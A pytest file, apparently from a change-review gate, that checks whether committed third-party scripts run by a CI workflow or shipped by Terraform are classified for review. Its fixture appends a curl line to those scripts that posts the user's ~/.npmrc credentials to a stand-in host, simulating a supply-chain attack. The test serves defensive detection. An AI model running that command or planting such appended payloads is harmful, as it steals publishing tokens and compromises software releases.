"""Attack 18: attack 17 raised vendored code a workflow runs by path (or Terraform ships, or a Concourse task runs)
out of deps, but only rules of the `vendored` ecosystem: committed installed packages of the other ecosystems
(node_modules/, the yarn cache, Pods/, Carthage/Checkouts/) kept deps when a workflow runs a script in them by path,
and the default gate, which reviews ci and iac only, allowed a changed `node_modules/.bin/release.sh` that the
release job executes. Installed third-party code CI runs is ci, whatever ecosystem installed it; a manifest a command
names (`bundle install --gemfile=Gemfile`) keeps deps, as does installed code nothing runs."""

from __future__ import annotations

import pytest
from tables import each_case

from gatekeeper.model import ClassifiedFile
from tests.gitrepo import GitRepo, two_commits
from tests.incli import tree_gate
from tests.test_classify_context import tree_files

WORKFLOW = """name: release
on:
  push:
    tags: ["v*"]
jobs:
  publish:
    runs-on: macos-14
    steps:
      - uses: actions/checkout@v4
      - run: sh node_modules/.bin/release.sh
      - run: node web/node_modules/semantic-release/bin/cli.js --dry-run
      - run: ./Pods/FirebaseCrashlytics/upload-symbols -gsp GoogleService-Info.plist -p ios build/
      - run: bash Carthage/Checkouts/swift-format/scripts/lint.sh
      - run: bundle install --gemfile=Gemfile
"""

MAIN_TF = """resource "aws_instance" "runner" {
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "t3.micro"
  user_data     = file("${path.module}/node_modules/@acme/bootstrap/cloud-init.sh")
}
"""

RUN = {
    "node_modules/.bin/release.sh": "#!/bin/sh\nnpm publish --access public\n",
    "web/node_modules/semantic-release/bin/cli.js": "#!/usr/bin/env node\nrequire('../index.js')();\n",
    "Pods/FirebaseCrashlytics/upload-symbols": "#!/bin/sh\nexec \"$(dirname \"$0\")/upload-symbols-bin\" \"$@\"\n",
    "Carthage/Checkouts/swift-format/scripts/lint.sh": "#!/bin/sh\nswift-format lint -r Sources\n",
}
EXFIL = "curl -s -d @\"$HOME/.npmrc\" https://collector.example.net/upload\n"


BASE = {".github/workflows/release.yml": WORKFLOW, "main.tf": MAIN_TF,
        "node_modules/@acme/bootstrap/cloud-init.sh": "#!/bin/sh\napt-get update\n",
        "node_modules/left-pad/index.js": "module.exports = (s, n) => s.padStart(n);\n",
        "Gemfile": "source 'https://rubygems.org'\ngem 'fastlane'\n", **RUN}
HEAD = {**{path: text + EXFIL for path, text in RUN.items()},
        "node_modules/@acme/bootstrap/cloud-init.sh": "#!/bin/sh\napt-get update\n" + EXFIL,
        "node_modules/left-pad/index.js": "module.exports = (s, n, c) => s.padStart(n, c);\n",
        "Gemfile": "source 'https://rubygems.org'\ngem 'fastlane', '~> 2.220'\n"}


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, ClassifiedFile]:
    """The change, classified with --tree once for the module's tests."""
    repo, _, _ = two_commits(tmp_path_factory.mktemp("attack18") / "repo", BASE, HEAD)
    return tree_files(repo)


@each_case("path", sorted(RUN))
def test_installed_code_ci_runs_is_ci(files: dict[str, ClassifiedFile], path: str) -> None:
    item = files[path]
    assert (item.bucket, item.rule) == ("ci", "ci.context.ci-run"), item


def test_installed_script_terraform_ships_is_iac(files: dict[str, ClassifiedFile]) -> None:
    item = files["node_modules/@acme/bootstrap/cloud-init.sh"]
    assert item.bucket == "iac", item


def test_installed_code_nothing_runs_and_named_manifest_stay_deps(files: dict[str, ClassifiedFile]) -> None:
    assert (files["node_modules/left-pad/index.js"].bucket, files["Gemfile"].bucket) == ("deps", "deps")


def test_gate_reviews_a_changed_script_the_release_job_runs(git_repo: GitRepo) -> None:
    git_repo.write(".github/workflows/release.yml", WORKFLOW)
    git_repo.write("node_modules/.bin/release.sh", RUN["node_modules/.bin/release.sh"])
    git_repo.commit("base")
    git_repo.write("node_modules/.bin/release.sh", RUN["node_modules/.bin/release.sh"] + EXFIL)
    git_repo.commit("head")
    code, decision = tree_gate(git_repo.root, "main~1", "main")
    assert code == 3, decision["reasons"]  # review (0 was allow on 5fb0bf2)
